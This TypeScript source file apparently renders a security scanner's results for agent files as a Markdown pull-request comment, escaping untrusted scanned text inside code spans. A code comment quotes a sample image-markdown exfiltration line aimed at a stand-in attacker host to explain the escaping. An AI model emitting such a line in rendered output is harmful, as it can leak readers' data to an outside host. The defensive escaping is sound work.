import { SEVERITIES_WORST_FIRST } from '../../scanner/engine/scan-report.types';
import { coverageLine } from '../scan/coverage';
import { exitCodeOf, gateReport, summarise, type ScanRun } from '../scan/scan-run';
import { fileSections, type FileSection } from './report-model';
import { safeText } from './terminal';

/**
 * `--format markdown`: for a pull-request comment or `$GITHUB_STEP_SUMMARY`. A summary table,
 * the coverage line (found / sent / analysed / not analysed and why) and the gates, then one
 * section per file with findings, worst first, each finding linked to docs/rules.md.
 *
 * Paths, evidence and judge text come from scanned files and are hostile: they are printed only
 * inside code spans (no links, images or HTML render there, so an evidence line like
 * `![](https://attacker/?d=…)` cannot fire a request from the summary page) or escaped.
 */

/** GitHub rejects a PR comment over 65,536 characters; the summary stays under that. */
export const MARKDOWN_BUDGET = 60_000;
const MAX_FINDINGS_PER_FILE = 20;

/**
 * Untrusted text as a one-line code span, fenced past any backtick run it holds. In a table cell
 * `|` is escaped (GFM splits cells before it parses code spans); elsewhere the backslash would show.
 */
export function code(text: string, max = 200, cell = false): string {
  const flat = cell ? safeText(text, max).replace(/\|/g, '\\|') : safeText(text, max);
  const longest = Math.max(0, ...(flat.match(/`+/g) ?? []).map((r) => r.length));
  const fence = '`'.repeat(longest + 1);
  const pad = flat.startsWith('`') || flat.endsWith('`') || flat.startsWith(' ') ? ' ' : '';
  return `${fence}${pad}${flat}${pad}${fence}`;
}

const plural = (n: number, word: string): string => `${n} ${word}${n === 1 ? '' : 's'}`;

function section(s: FileSection): string[] {
  const f = s.file;
  const out: string[] = [];
  const score = f.score === null ? 'not analysed' : `${f.band} ${f.score}/100`;
  out.push(`### ${code(f.relative_path)} (${score})`, '', `**Verdict:** ${code(s.verdict, 300)}`, '');
  const explained = new Set<string>();
  for (const r of s.findings.slice(0, MAX_FINDINGS_PER_FILE)) {
    const was = r.original_severity ? ` (was ${r.original_severity}: ${code(r.severity_override!.reason, 80)})` : '';
    out.push(`- **${r.severity}**${was} [${r.rule_id}](${r.docs}) ${r.guidance.title} at ${code(`${r.path}:${r.line}`)}`);
    if (r.message && r.message !== r.guidance.title) out.push(`  - Found: ${code(r.message, 200)}`);
    if (r.evidence) out.push(`  - Evidence: ${code(r.evidence, 160)}`);
    if (explained.has(r.rule_id)) continue;
    explained.add(r.rule_id);
    out.push(`  - Why it matters: ${r.guidance.why}`, `  - How to fix: ${r.guidance.fix}`);
  }
  if (s.findings.length > MAX_FINDINGS_PER_FILE) out.push(`- … and ${s.findings.length - MAX_FINDINGS_PER_FILE} more (in the SARIF and JSON reports)`);
  if (s.suppressed.total)
    out.push(
      `- ${plural(s.suppressed.total, 'suppressed finding')} (${s.suppressed.by.map(([k, n]) => `${n} by ${k}`).join(', ')}), listed in the SARIF and JSON reports`,
    );
  out.push('');
  return out;
}

export function formatMarkdown(run: ScanRun, version: string, env: Readonly<Record<string, string | undefined>> = {}): string {
  const summary = summarise(run);
  const exit = exitCodeOf(run);
  const sections = fileSections(run, env);
  const head: string[] = [];
  const status = exit === 0 ? 'passed' : exit === 1 ? 'FAILED: gated findings' : exit === 3 ? 'FAILED: files not analysed' : 'FAILED: the scan is incomplete';
  head.push(`## Bulwark agent-file scan: ${status} (exit ${exit})`, '');
  const mode = run.mode === 'local' ? 'local engine' : `server ${code(run.server ?? '')}`;
  head.push(`Bulwark ${code(version)} · ${mode} · judge ${run.judge} · ${plural(summary.files, 'file')} in ${plural(summary.uploads, 'upload')}`, '');
  head.push(`| ${SEVERITIES_WORST_FIRST.join(' | ')} | suppressed | worst band |`, `|${' ---: |'.repeat(SEVERITIES_WORST_FIRST.length + 1)} --- |`);
  head.push(
    `| ${SEVERITIES_WORST_FIRST.map((s) => summary.findings[s]).join(' | ')} | ${summary.suppressed} | ${summary.worst_band ? `${summary.worst_band} (${summary.worst_score}/100)` : 'none'} |`,
    '',
  );
  head.push(`**Coverage:** ${coverageLine(summary.coverage).replace(/^Files: /, '')}`, '');
  const gates = gateReport(run);
  if (gates.length) head.push(...gates.map((g) => `- ${g.ok ? '' : '**'}${g.text}${g.ok ? '' : '**'}`), '');

  const tail: string[] = [];
  const notAnalysed = summary.coverage.not_analysed;
  if (notAnalysed.length) {
    tail.push(`### Not analysed (${notAnalysed.length})`, '');
    for (const n of notAnalysed.slice(0, 100))
      tail.push(`- ${code(n.path)}: ${code(n.reason, 160)}${n.gating && !run.allowUnscanned ? ' **(fails the run)**' : ''}`);
    if (notAnalysed.length > 100) tail.push(`- … and ${notAnalysed.length - 100} more`);
    tail.push('');
  }
  const markers = run.inlineMarkers ?? [];
  if (markers.length) {
    tail.push(
      `### Inline suppression markers, not obeyed (${markers.length})`,
      '',
      'Suppressions come only from `.bulwark.yaml` / `--config` and `--baseline`, never from a scanned file.',
      '',
    );
    for (const m of markers.slice(0, 50)) tail.push(`- ${code(`${m.path}:${m.line}`)} ${code(m.text, 60)}`);
    tail.push('');
  }
  const errors = run.outcomes.filter((o) => o.error);
  if (errors.length) {
    tail.push(`### Errors (${errors.length})`, '');
    for (const o of errors.slice(0, 50)) tail.push(`- ${code(o.files.join(', '), 160)}: ${code(o.error!.message, 200)}`);
    tail.push('');
  }

  const body: string[] = [];
  const shown = sections.filter((s) => s.findings.length > 0 || s.suppressed.total > 0);
  const clean = sections.length - shown.length;
  if (shown.length) {
    body.push('### Files, worst first', '', '| file | band | verdict |', '| --- | --- | --- |');
    for (const s of shown) body.push(`| ${code(s.file.relative_path, 120, true)} | ${s.band ?? 'none counted'} | ${code(s.verdict, 160, true)} |`);
    body.push('');
  }
  if (clean) body.push(`${plural(clean, 'other file')} had no findings.`, '');
  let used = [...head, ...body, ...tail].join('\n').length;
  let omitted = 0;
  for (const s of shown) {
    const lines = section(s);
    const size = lines.join('\n').length + 1;
    if (used + size > MARKDOWN_BUDGET) {
      omitted += 1;
      continue;
    }
    used += size;
    body.push(...lines);
  }
  if (omitted)
    body.push(`${plural(omitted, 'more file section')} left out to stay under GitHub's comment size; the SARIF and JSON reports carry every finding.`, '');
  return `${[...head, ...body, ...tail].join('\n').trimEnd()}\n`;
}
